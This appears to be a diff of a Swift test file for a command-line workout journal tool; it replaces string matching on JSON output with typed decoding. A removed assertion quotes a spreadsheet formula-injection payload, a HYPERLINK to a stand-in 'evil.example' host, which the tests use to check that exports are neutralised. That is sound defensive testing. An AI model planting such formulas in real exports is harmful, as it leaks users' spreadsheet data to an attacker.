@@ -17,7 +17,7 @@ import Testing
         for index in 0..<sessions {
             let date = String(format: "2026-09-%02d", index + 1)
             let next = plusmd(["next", "--json", "--date", date], in: root)
-            let path = try #require(next.out.split(separator: "\"path\" : \"").dropFirst().first?.split(separator: "\"").first)
+            let path = try ReportJSON.decode(NextReport.self, from: next.out).path
             try folder.write("j/\(path)", try folder.read("j/\(path)").ticked(amrap: 7))
         }
         return root
@@ -26,7 +26,7 @@ import Testing
     @Test func removingTheNewestWorkoutRewindsThePosition() throws {
         let folder = TemporaryFolder()
         let root = try journal(folder, sessions: 5)
-        #expect(plusmd(["status", "--json"], in: root).out.contains("\"week\" : 2"))
+        #expect(try ReportJSON.decode(StatusReport.self, from: plusmd(["status", "--json"], in: root).out).week == 2)
         let refused = plusmd(["rm", "2026-09-05"], in: root)
         #expect(refused.status == 4, "no terminal and no --yes")
         #expect(refused.err.contains("Will remove 2026/2026-09-05-squat.md: Squat · cycle 1 · week 2 (3s) on 2026-09-05, 11 of 11 sets ticked"))
@@ -87,7 +87,8 @@ import Testing
         #expect(FileManager.default.fileExists(atPath: root + "/" + "2026/2026-09-07-press.md"))
         #expect(try folder.read("j/2026/2026-09-08-reset.md").hasPrefix("---\nentry: reset\ndate: 2026-09-08\ncycle: 2\n---\n"))
         let next = plusmd(["next", "--date", "2026-09-09", "--json"], in: root)
-        #expect(next.out.contains("\"cycle\" : 2") && next.out.contains("\"week\" : 1") && next.out.contains("\"training_max\" : 315"))
+        let planned = try ReportJSON.decode(NextReport.self, from: next.out)
+        #expect(planned.cycle == 2 && planned.week == 1 && planned.trainingMax == Weight(315))
         let again = plusmd(["reset", "--yes"], in: root)
         #expect(again.status == 1)
         #expect(again.err.contains("nothing to reset"))
@@ -192,7 +193,8 @@ import Testing
         #expect(ExportCSV.neutralised("\r\n=1+1") == "'\r\n=1+1")
         #expect(ExportCSV.neutralised("Depth felt good; 5+ reps") == "Depth felt good; 5+ reps")
         let json = plusmd(["export", "--format", "json", "-o", "-"], in: journal)
-        #expect(json.out.contains("\"=HYPERLINK(\\\"http:\\/\\/evil.example\\/?\\\"&A1,\\\"click\\\")\"") || json.out.contains("\"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"click\\\")\""), "the JSON export keeps the raw note")
+        let export = try ReportJSON.decode(ExportReport.self, from: json.out)
+        #expect(export.workouts.first { $0.path == "2026/2026-09-01-squat.md" }?.notes == hostile["2026/2026-09-01-squat.md"], "the JSON export keeps the raw note")
     }
 
     @Test func configShowsEverySettingAndSetsOneKeepingTheLayout() throws {
@@ -211,7 +213,8 @@ import Testing
         #expect(try folder.read("j/plusmd.yaml") == before.replacingFirst("  percent: 50\n", with: "  percent: 60\n"))
         let mode = try FileManager.default.attributesOfItem(atPath: root + "/plusmd.yaml")[.posixPermissions] as? Int
         #expect(mode == 0o600)
-        #expect(plusmd(["config", "--json"], in: root).out.contains("\"key\" : \"bbb.percent\",\n          \"value\" : 60"))
+        let config = try ReportJSON.decode(ConfigReport.self, from: plusmd(["config", "--json"], in: root).out)
+        #expect(config.groups.flatMap(\.settings).first { $0.key == "bbb.percent" }?.value == .number(Weight(60)))
         let plate = plusmd(["config", "set", "plates", "45,-5"], in: root)
         #expect(plate.status == 2)
         #expect(plate.err.contains("a plate of '-5' is refused: plate sizes must be positive weights"))
@@ -226,11 +229,11 @@ import Testing
         let entries = try FileManager.default.subpathsOfDirectory(atPath: root).filter { $0.hasSuffix(".md") }
         #expect(try entries.contains { try folder.read("j/" + $0).contains("cause: units\nunits: kg\n") })
         #expect(plusmd(["check"], in: root).status == 0)
-        let kg = plusmd(["tm", "--json"], in: root).out
-        #expect(kg.contains("\"units\" : \"kg\""))
+        let kg = try ReportJSON.decode(TrainingMaxReport.self, from: plusmd(["tm", "--json"], in: root).out)
+        #expect(kg.units == .kg)
         // …and back: kilograms through pounds drift by at most 0.01 lb.
         #expect(plusmd(["config", "set", "units", "lb", "--bar", "45"], in: root).status == 0)
-        #expect(plusmd(["tm", "--json"], in: root).out.contains("\"units\" : \"lb\""))
+        #expect(try ReportJSON.decode(TrainingMaxReport.self, from: plusmd(["tm", "--json"], in: root).out).units == .lb)
     }
 
     @Test func atomicReplaceRefusesAFileThatChangedSinceItWasRead() throws {
